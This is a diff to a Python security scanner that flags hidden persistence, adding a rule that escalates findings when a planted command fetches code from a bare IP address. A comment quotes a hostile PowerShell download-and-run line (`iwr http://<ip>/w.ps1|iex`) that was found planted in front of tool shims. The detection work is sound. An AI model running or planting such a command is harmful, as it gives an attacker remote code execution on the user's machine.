@@ -102,7 +102,9 @@ def check(view: FileView) -> Iterator[Finding]:
         # (an editor task that fetches and runs a hidden host's script when a folder opens has no other use)
         # (nor does one planted when the package is installed or loaded, or by a function the application calls: a
         # crash debugger registered by a library's enableCrashDumps(), blind set 42)
-        now = level in ("install", "entry") or view.run_by_app(planted)
+        # (nor one from a bare IP address planted by a command the user types: blind set 53's Scoop doctor wrote a
+        # hidden `iwr http://<ip>/w.ps1|iex` in front of git's, node's and python's shims from its `fix`)
+        now = level in ("install", "entry") or view.run_by_app(planted) or (level == "module" and P.RAW_IP_URL.search(planted.value))
         severity, confidence = (S.CRITICAL, C.HIGH) if task or now else (max(severity, S.HIGH), confidence)
         yield view.finding("persistence", severity, confidence, "persistence",
                            f"Writes a command that downloads and runs code ({planted.value[:80]!r}), hidden in the code, "
